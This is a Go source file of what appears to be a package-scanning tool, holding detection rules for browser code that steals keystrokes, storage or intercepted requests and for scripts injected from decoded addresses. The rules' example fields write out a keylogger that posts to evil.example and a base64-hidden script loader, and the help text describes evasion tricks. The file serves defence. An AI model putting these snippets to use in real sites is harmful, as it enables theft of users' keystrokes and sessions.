package browser

import (
	"context"
	"fmt"
	"slices"
	"strings"

	"github.com/depfence/depfence/internal/analyze"
	"github.com/depfence/depfence/internal/finding"
	"github.com/depfence/depfence/internal/jsast"
	"github.com/depfence/depfence/internal/rules/rulekit"
)

// PageExfil flags browser code that collects what the user types, what the
// site stores or the requests a service worker sees, and sends it to a
// hard-coded host.
type PageExfil struct{}

// Meta implements analyze.Rule.
func (PageExfil) Meta() analyze.Meta {
	return analyze.Meta{
		ID: "browser/page-exfil", Version: 6, Title: "Sends what users type or store to a hard-coded host",
		Help: "Browser code sends page data to a constant URL on a host that is neither local nor a known CDN or registry: keystrokes " +
			"buffered by a keydown/keypress/keyup listener on the page (a keylogger; a shortcut handler compares keys, it does not keep " +
			"them), the whole of localStorage or sessionStorage enumerated (session tokens and wallet state; a storage library reads its " +
			"own keys; a store held in a variable and read key by key with key(i) and getItem(k) counts), or the bodies of requests a service worker intercepts in its fetch handler. In a multi-megabyte bundle the pieces " +
			"must sit close together, and so in any file over 64 KiB (within 2,000 bytes). A whole store enumerated by a file (not a " +
			"bundle) that also reads document.cookie is critical: " +
			"the sessions of every user of the site. A URL written without a scheme (//host/p) takes the page's and counts as that host.",
		Remediation:     "Remove the package from any site build, rotate the sessions and tokens of users who loaded it, and check which builds shipped it.",
		Example:         `document.addEventListener("keydown", e => buf.push(e.key)); setInterval(() => fetch("https://evil.example/k", { method: "POST", body: buf.join("") }), 5000)`,
		DefaultSeverity: finding.SeverityHigh, Signal: analyze.SigCred, Needs: analyze.NeedCode,
	}
}

// keyEvents are the keyboard events a keylogger listens to.
var keyEvents = map[string]bool{"keydown": true, "keypress": true, "keyup": true, "onkeydown": true, "onkeypress": true, "onkeyup": true}

// Check implements analyze.Rule.
func (PageExfil) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter) error {
	for _, f := range rulekit.Code(ctx, t) {
		dest, destPos, destSnip := externalDest(t, f.Facts)
		if dest == "" {
			continue
		}
		near := func(p jsast.Pos) bool {
			// past 64 KiB a file is a library's modules concatenated
			// (walletconnect's storage wrapper lists its keys; its
			// requests go elsewhere in the file): an injected stealer
			// keeps its pieces together
			return f.Facts.Size <= rulekit.ModuleSize || rulekit.Near(p, []jsast.Pos{destPos})
		}
		what, at, dump := "", jsast.Pos{}, false
		if p, ok := keylogger(f.Facts); ok && near(p) {
			what, at = "buffers the keys typed on the page", p
		} else if p, how, ok := storageDump(f.Facts); ok && near(p) {
			what, at, dump = "enumerates "+how, p, true
		} else if p, ok := interceptedBodies(f.Facts, dest); ok {
			what, at = "copies the requests its service worker intercepts", p
		}
		if what == "" {
			continue
		}
		in := analyze.Instance{File: f.Name, Line: at.Line, Confidence: finding.ConfidenceHigh,
			Message: fmt.Sprintf("%s and sends to %s", what, dest), Evidence: rulekit.Ev(destSnip, dest, "")}
		if dump && !f.Facts.Bundle() && slices.ContainsFunc(f.Facts.Members, func(m jsast.Member) bool { return m.Name == "document.cookie" }) {
			// the session cookies with the whole store: a session thief
			in.Severity, in.Message = finding.SeverityCritical, fmt.Sprintf("%s and the page's cookies and sends them to %s", what, dest)
		}
		r.Report(in)
	}
	return nil
}

// externalDest returns the external URL the file sends to: a constant
// (or the constant start of a template) handed to fetch, sendBeacon, a
// WebSocket, an HTTP client or XMLHttpRequest's open, on a host that is
// not local and not trusted for t; or, with new Image() (or an element
// made with document.createElement) and an assignment to a src or href, a
// constant URL next to it. A URL merely written
// in the file (a docs link in an error message) is not a destination. It
// also returns where the destination is and the source line there.
func externalDest(t *analyze.Target, f *jsast.Facts) (string, jsast.Pos, string) {
	var images []jsast.Pos
	for _, c := range f.Calls {
		var a *jsast.Arg
		switch {
		case rulekit.IsNetCall(c) && len(c.Args) > 0:
			a = &c.Args[0]
		case rulekit.Last(c.Callee) == "open" && len(c.Args) > 1 && c.Args[0].Known && httpMethods[strings.ToUpper(c.Args[0].Value)]:
			a = &c.Args[1]
		case c.Callee == "Image" || c.Callee == "document.createElement" && len(c.Args) > 0 && loadingElement[strings.ToLower(c.Args[0].Value)]:
			// an image, or an element made to load a URL (a prefetch
			// link; an <a> only links)
			images = append(images, c.Pos)
		}
		if a == nil {
			continue
		}
		if u := rulekit.ExternalURL(t, pageScheme(rulekit.Text(*a))); u != "" {
			return u, c.Pos, c.Snippet.String()
		}
	}
	if len(images) == 0 {
		return "", jsast.Pos{}, ""
	}
	for _, a := range f.Assigns {
		// img.src = "https://…/p.gif?d=" + data: the URL as assigned
		if (strings.HasSuffix(a.Target, ".src") || strings.HasSuffix(a.Target, ".href")) && a.Value != "" {
			if u := rulekit.ExternalURL(t, pageScheme(a.Value)); u != "" {
				return u, a.Pos, a.Snippet.String()
			}
		}
	}
	if slices.ContainsFunc(f.Assigns, func(a jsast.Assign) bool {
		return strings.HasSuffix(a.Target, ".src") || strings.HasSuffix(a.Target, ".href")
	}) {
		for _, s := range f.Strings {
			if u := rulekit.ExternalURL(t, s.Value); u != "" && !s.Printed && !s.FromFile && rulekit.Near(s.Pos, images) {
				return u, s.Pos, s.Snippet.String()
			}
		}
	}
	return "", jsast.Pos{}, ""
}

// pageScheme completes a URL whose scheme is the page's: protocol-relative
// (//host/p), or with a scheme chosen at run time (`${proto}//host/p`).
// An image or script requests it all the same.
func pageScheme(v string) string {
	if rest, ok := strings.CutPrefix(v, jsast.Hole); ok && strings.HasPrefix(rest, "//") {
		v = rest
	}
	if strings.HasPrefix(v, "//") {
		return "https:" + v
	}
	return v
}

// loadingElement are the elements that request their src or href as
// soon as it is set.
var loadingElement = map[string]bool{"img": true, "script": true, "iframe": true, "link": true}

var httpMethods = map[string]bool{"GET": true, "POST": true, "PUT": true, "PATCH": true}

// keylogger reports a keyboard listener on the page with the typed keys
// kept for later.
func keylogger(f *jsast.Facts) (jsast.Pos, bool) {
	var listen, buffer *jsast.Pos
	for i := range f.Calls {
		c := &f.Calls[i]
		last := rulekit.Last(c.Callee)
		if (last == "addEventListener" || last == "attachEvent" || last == "on") && len(c.Args) > 0 && c.Args[0].Known && keyEvents[strings.ToLower(c.Args[0].Value)] {
			listen = &c.Pos
			break
		}
	}
	for i := range f.Members {
		m := &f.Members[i]
		switch {
		case m.Name == jsast.KeyBuffer:
			buffer = &m.Pos
		case listen == nil && keyEvents[strings.ToLower(rulekit.Last(m.Name))]:
			listen = &m.Pos // document.onkeydown = …
		}
	}
	if listen == nil || buffer == nil {
		return jsast.Pos{}, false
	}
	if f.Bundle() && !rulekit.Near(*listen, []jsast.Pos{*buffer}) {
		return jsast.Pos{}, false
	}
	return *listen, true
}

// storageDump reports code that enumerates all of localStorage or
// sessionStorage: key(i), Object.keys/entries/values or JSON.stringify of
// the store.
func storageDump(f *jsast.Facts) (jsast.Pos, string, bool) {
	for _, c := range f.Calls {
		root, last := strings.TrimPrefix(strings.TrimPrefix(c.Callee, "window."), "self."), rulekit.Last(c.Callee)
		if (root == "localStorage.key" || root == "sessionStorage.key") && last == "key" {
			return c.Pos, strings.TrimSuffix(root, ".key"), true
		}
		switch c.Callee {
		case "Object.keys", "Object.entries", "Object.values", "JSON.stringify", "Object.assign":
		default:
			continue
		}
		for _, a := range c.Args {
			if n := storeItself(a.Names); n != "" {
				return c.Pos, n, true
			}
		}
	}
	// the store kept in a variable of its own (store = backend(),
	// returning localStorage or a fallback) and read key by key
	store := ""
	for _, m := range f.Members {
		// localStorage.getItem, or window.localStorage itself handed to
		// the function that reads it
		name := strings.TrimPrefix(strings.TrimPrefix(strings.TrimPrefix(m.Name, "window."), "self."), "globalThis.")
		if root, _, _ := strings.Cut(name, "."); root == "localStorage" || root == "sessionStorage" {
			store = root
			break
		}
	}
	if store == "" {
		return jsast.Pos{}, "", false
	}
	for _, c := range f.Calls {
		recv, ok := strings.CutSuffix(c.Callee, ".key")
		if !ok || recv == "" || len(c.Args) != 1 || c.Args[0].Known {
			continue
		}
		if slices.ContainsFunc(f.Calls, func(g jsast.Call) bool { return g.Callee == recv+".getItem" && len(g.Args) == 1 && !g.Args[0].Known }) {
			return c.Pos, store, true
		}
	}
	return jsast.Pos{}, "", false
}

// storeItself returns the storage an argument is, when it names only the
// store and the global holding it (Object.keys(window.localStorage)); an
// argument that reads one item (localStorage.getItem("k")) is not.
func storeItself(names []string) string {
	store := ""
	for _, n := range names {
		switch n {
		case "localStorage", "sessionStorage":
			store = n
		case "window", "self", "globalThis":
		default:
			return ""
		}
	}
	return store
}

// interceptedBodies reports a service worker's fetch handler next to a
// request to dest whose body carries the intercepted request (its url,
// a clone's text): the requests copied out. A caching worker forwards
// event.request to its own origin; a worker's telemetry sends its own
// event.
func interceptedBodies(f *jsast.Facts, dest string) (jsast.Pos, bool) {
	var handler *jsast.Pos
	for i := range f.Calls {
		c := &f.Calls[i]
		if rulekit.Last(c.Callee) == "addEventListener" && len(c.Args) > 1 && c.Args[0].Known && c.Args[0].Value == "fetch" {
			handler = &c.Pos
			break
		}
	}
	if handler == nil {
		for i := range f.Assigns {
			if a := &f.Assigns[i]; rulekit.Last(a.Target) == "onfetch" {
				handler = &a.Pos
			}
		}
	}
	if handler == nil {
		return jsast.Pos{}, false
	}
	for _, c := range f.Calls {
		if !rulekit.IsNetCall(c) || len(c.Args) < 2 || !strings.HasPrefix(rulekit.Text(c.Args[0]), dest) {
			continue
		}
		names := c.Args[len(c.Args)-1].Names
		if slices.ContainsFunc(names, func(n string) bool { return n == "request" || n == "req" || n == "clone" }) {
			return *handler, true
		}
	}
	return jsast.Pos{}, false
}

// ScriptInjection flags code that adds a script element whose address it
// decoded from base64, hex or character codes.
type ScriptInjection struct{}

// Meta implements analyze.Rule.
func (ScriptInjection) Meta() analyze.Meta {
	return analyze.Meta{
		ID: "browser/script-injection", Version: 3, Title: "Injects a script from a hidden address",
		Help: "Code creates a <script> element (or writes a script tag) whose address it decodes at run time (atob, Buffer.from(…, " +
			"\"base64\"), hex, character codes) and that points to a host that is neither local nor a known CDN. Loaders of analytics " +
			"or payment SDKs name their CDN in plain text; hiding the address keeps a reviewer and a grep from seeing which code " +
			"the page will run. This is how compromised packages pull their real payload into the sites that bundle them. Critical; " +
			"high in a multi-megabyte bundle, where the decoded address must sit by the script element. A build plugin writing such a " +
			"<script src> tag into the pages it emits, or a loader kept as text for the scripts it emits, counts the same. So does a script " +
			"element added by a file that joins at least two of the names it uses (document, createElement, script, cookie…) from pieces " +
			"(w[\"doc\" + \"ument\"]): that only hides what the code does from a search.",
		Remediation:     "Remove the package from any site build and review what the decoded address served.",
		Example:         `const s = document.createElement("script"); s.src = atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUvcy5qcw=="); document.head.appendChild(s)`,
		DefaultSeverity: finding.SeverityCritical, Signal: analyze.SigRemoteExec, Needs: analyze.NeedCode,
	}
}

// Check implements analyze.Rule.
func (ScriptInjection) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter) error {
	for _, f := range rulekit.Code(ctx, t) {
		var inject []jsast.Pos
		for _, c := range f.Facts.Calls {
			switch {
			case c.Callee == "document.createElement" && len(c.Args) > 0 && c.Args[0].Known && strings.EqualFold(c.Args[0].Value, "script"):
				inject = append(inject, c.Pos)
			case (c.Callee == "document.write" || c.Callee == "document.writeln") && len(c.Args) > 0 &&
				(strings.Contains(strings.ToLower(c.Args[0].Value), "<script") || strings.Contains(strings.ToLower(c.Args[0].Shape), "<script")):
				inject = append(inject, c.Pos)
			}
		}
		for _, s := range f.Facts.Strings {
			// a script tag written into HTML (a build plugin editing
			// the pages it emits), or a loader kept as text to add to
			// the scripts it emits
			v := strings.ToLower(s.Value)
			if strings.Contains(v, "<script") && strings.Contains(v, "src=") || strings.Contains(v, `createelement("script")`) || strings.Contains(v, `createelement('script')`) {
				inject = append(inject, s.Pos)
			}
		}
		if len(inject) == 0 {
			continue
		}
		reported := false
		for _, s := range f.Facts.Strings {
			if !s.Decoded {
				continue
			}
			u := rulekit.ExternalURL(t, s.Value)
			if u == "" || f.Facts.Bundle() && !rulekit.Near(s.Pos, inject) {
				continue
			}
			sev := finding.SeverityCritical
			if f.Facts.Bundle() {
				sev = finding.SeverityHigh // a bundle's loaders and decoders may only share the file
			}
			r.Report(analyze.Instance{File: f.Name, Line: s.Pos.Line, Severity: sev, Confidence: finding.ConfidenceHigh,
				Message:  "adds a script element loading " + u + ", an address it decodes at run time",
				Evidence: rulekit.Ev(s.Snippet.String(), u, "")})
			reported = true
			break
		}
		if reported || f.Facts.Bundle() {
			continue
		}
		// the element made with the names of the calls joined from
		// pieces (d["create" + "Element"]("scr" + "ipt")): no loader
		// hides from a search that it adds a script
		var split []string
		for _, s := range f.Facts.SplitNames {
			switch s.Value {
			case "document", "createElement", "script", "iframe", "appendChild", "src", "cookie", "localStorage":
				split = append(split, s.Value)
			}
		}
		if len(split) >= 2 {
			s := f.Facts.SplitNames[0]
			r.Report(analyze.Instance{File: f.Name, Line: s.Pos.Line, Severity: finding.SeverityCritical, Confidence: finding.ConfidenceMedium,
				Message:  "adds a script element with the names it uses joined from pieces (" + strings.Join(split, ", ") + "), out of a search's sight",
				Evidence: rulekit.Ev(s.Snippet.String(), s.Value, "")})
		}
	}
	return nil
}
